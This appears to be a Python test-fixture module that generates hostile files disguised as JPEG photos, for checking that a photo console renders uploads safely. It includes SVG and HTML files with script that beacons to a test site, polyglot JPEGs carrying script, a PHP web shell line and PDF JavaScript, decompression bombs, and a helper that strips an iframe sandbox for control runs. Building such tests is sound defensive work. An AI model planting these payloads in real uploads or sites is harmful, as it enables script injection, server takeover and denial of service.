"""Three hundred files that call themselves photos: the same ones at every call."""

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Picture:
    """`active` ones run their script where a browser is let to take them for what they are, of type `kind`."""

    name: str
    data: bytes
    kind: str = "image/jpeg"
    active: bool = False
    # Whether something plain may be seen of it: a decoder shows what it can of a broken JPEG.
    may_show: bool = False


def hostile_pictures(jpeg: bytes, site: str) -> list[Picture]:
    """`jpeg` is a good one, to be spoilt; whatever runs calls at `site`."""
    source = random.Random("hostile pictures")
    files = (svg_files(site), html_files(site), polyglots(jpeg, site), other_formats(site), bombs(jpeg))
    families = (*files, spoilt(jpeg, source))
    return [picture for family in families for picture in family]


def call_home(site: str, name: str) -> str:
    """Tells the site that it ran."""
    return f"new Image().src='{site}/executed?{name}'"


def svg_files(site: str) -> Iterator[Picture]:
    for n in range(40):
        run, name = call_home(site, f"svg-{n}"), f"svg-{n}.jpg"
        bodies = (
            f"<script>{run}</script>",
            f'<rect width="9" height="9"/><script type="text/javascript"><![CDATA[{run}]]></script>',
            f'<foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><script>{run}</script></div></foreignObject>',
            f'<g><set attributeName="x" onbegin="{run}" begin="0s"/></g><script>{run}</script>',
        )
        head = ("", '<?xml version="1.0"?>', "<!-- \xff\xd8\xff -->", "\n\n")[n // 4 % 4]
        onload = f' onload="{run}"' if n % 2 else ""
        text = f'{head}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"{onload}>{bodies[n % 4]}</svg>'
        # An XML declaration may follow nothing, not even a blank line.
        yield Picture(name, text.strip().encode(), "image/svg+xml", active=True)


def html_files(site: str) -> Iterator[Picture]:
    for n in range(40):
        run = call_home(site, f"html-{n}")
        bodies = (
            f"<script>{run}</script>",
            f'<img src=x onerror="{run}">',
            f'<svg onload="{run}"></svg>',
            f'<body onload="{run}">',
        )
        start = (b"<!doctype html>", b"<html>", b"\xff\xd8\xff\xe0<html>", b"\xef\xbb\xbf<html><title>JFIF</title>")[
            n // 4 % 4
        ]
        yield Picture(f"html-{n}.jpg", start + bodies[n % 4].encode(), "text/html", active=True)


def segment(marker: int, data: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data


def carrying(jpeg: bytes, load: bytes, how: int) -> bytes:
    """A good JPEG with a load in one of five places."""
    if how == 4:
        return jpeg + load
    marker, mark = ((0xFE, b""), (0xE1, b"Exif\0\0"), (0xE2, b"ICC_PROFILE\0\1\1"), (0xE0, b"/*"))[how]
    return jpeg[:2] + segment(marker, mark + load) + jpeg[2:]


def polyglots(jpeg: bytes, site: str) -> Iterator[Picture]:
    """Good JPEGs that carry something else."""
    for n in range(60):
        script = f"<script>{call_home(site, f'polyglot-{n}')}</script>".encode()
        loads = (
            script,
            b"*/=0;" + call_home(site, f"polyglot-{n}").encode() + b";/*",
            b"<svg xmlns='http://www.w3.org/2000/svg'>" + script + b"</svg>",
            b"<?php system($_GET[%d]); ?>" % n,
            b"PK\x03\x04" + script,
            b"%%PDF-1.4 /OpenAction << /S /JavaScript /JS (app.alert(%d)) >>" % n,
        )
        load = loads[n % 6]
        html = n % 6 in (0, 2)
        yield Picture(f"polyglot-{n}.jpg", carrying(jpeg, load, n // 6 % 5), "text/html", active=html, may_show=True)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, more: bytes = b"") -> bytes:
    rows = zlib.compress(b"\0" * (height * (width + 1)) if width * height < 100_000 else b"\0" * 100_000)
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + more + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def gif(frames: int, tail: bytes = b"") -> bytes:
    frame = b"\x21\xf9\x04\x00\x01\x00\x00\x00\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00"
    return b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff" + frame * frames + b";" + tail


def other_formats(site: str) -> Iterator[Picture]:
    """Whatever else browsers decode; animated, or with a script at the end. None is a JPEG, so none is shown."""
    for n in range(40):
        script = f"<script>{call_home(site, f'format-{n}')}</script>".encode()
        animated = chunk(b"acTL", struct.pack(">II", n + 2, 0))
        data = (
            gif(n + 2),
            gif(1, script),
            png(8, 8, animated),
            png(8, 8, chunk(b"tEXt", b"Comment\0" + script)),
            b"RIFF" + struct.pack("<I", 60) + b"WEBPVP8X\x0a\0\0\0\x02\0\0\0\x07\0\0\x07\0\0ANIM" + bytes(30),
            b"BM" + struct.pack("<IHHIIiiHHIIiiII", 58, 0, 0, 54, 40, 1, 1, 1, 24, 0, 4, 0, 0, 0, 0) + bytes(4),
            b"\0\0\1\0\1\0" + struct.pack("<BBBBHHII", 8, 8, 0, 0, 1, 32, len(png(8, 8)), 22) + png(8, 8),
            b"\0\0\0\x1cftypavif\0\0\0\0avifmif1" + script,
        )[n % 8]
        yield Picture(f"format-{n}.jpg", data + bytes(n))


def sized(jpeg: bytes, width: int, height: int) -> bytes:
    """The JPEG with another size in its frame header."""
    at = jpeg.index(b"\xff\xc0") + 5
    return jpeg[:at] + struct.pack(">HH", height, width) + jpeg[at + 4 :]


def bombs(jpeg: bytes) -> Iterator[Picture]:
    """Small files that would be gigantic pictures; and frame headers that say nothing sensible."""
    for n in range(40):
        side = 4097 + n * 1575
        data = (
            sized(jpeg, side, side),
            sized(jpeg, 8, min(65535, side)),
            sized(jpeg, 0, n),
            png(30_000 + n, 30_000),
            jpeg[:2] + jpeg[jpeg.index(b"\xff\xc0") : jpeg.index(b"\xff\xc0") + 19] * (n + 2) + jpeg[2:],
        )[n % 5]
        yield Picture(f"bomb-{n}.jpg", data)


def spoilt(jpeg: bytes, source: random.Random) -> Iterator[Picture]:
    for n in range(40):
        yield Picture(f"truncated-{n}.jpg", jpeg[: n * len(jpeg) // 40], may_show=True)
    for n in range(40):
        changed = bytearray(jpeg)
        for _ in range(n + 1):
            changed[source.randrange(2, len(changed))] ^= 1 << source.randrange(8)
        yield Picture(f"flipped-{n}.jpg", bytes(changed), may_show=True)


def unsandboxed(folder: Path) -> None:
    """Change the console's sources so that a page shows what it was sent as it is: for controls."""
    text = (folder / "photos.js").read_text("utf-8")
    start, end = text.index("  frame.setAttribute('sandbox'"), text.index("  const shown =")
    spoilt = "  frame.src = URL.createObjectURL(new Blob([bytes], { type: 'image/svg+xml' }))\n"
    (folder / "photos.js").write_text(text[:start] + spoilt + text[end:], "utf-8")
